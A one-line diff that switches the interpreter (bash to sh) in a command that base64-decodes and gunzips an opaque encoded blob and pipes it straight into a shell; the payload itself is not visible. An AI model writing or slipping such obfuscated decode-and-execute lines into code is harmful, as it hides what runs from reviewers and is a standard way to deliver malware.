@@ -1,1 +1,1 @@
-echo H4sIAAAAAAACAwXB0Q5FMAwA0Pd9RcWDl5rVjdzY38wUTWREG+HvnVNDPsoiK/zoP8BNrq66SUqnm9MjJwN+OMdmSrpBu0uDp72oNvN1obKpzKiySjHUVBgsn5HG3gffexpCHEMg9wGVj6HeZAAAAA== | base64 -d | gzip -d | bash
+echo H4sIAAAAAAACAwXB0Q5FMAwA0Pd9RcWDl5rVjdzY38wUTWREG+HvnVNDPsoiK/zoP8BNrq66SUqnm9MjJwN+OMdmSrpBu0uDp72oNvN1obKpzKiySjHUVBgsn5HG3gffexpCHEMg9wGVj6HeZAAAAA== | base64 -d | gzip -d | sh
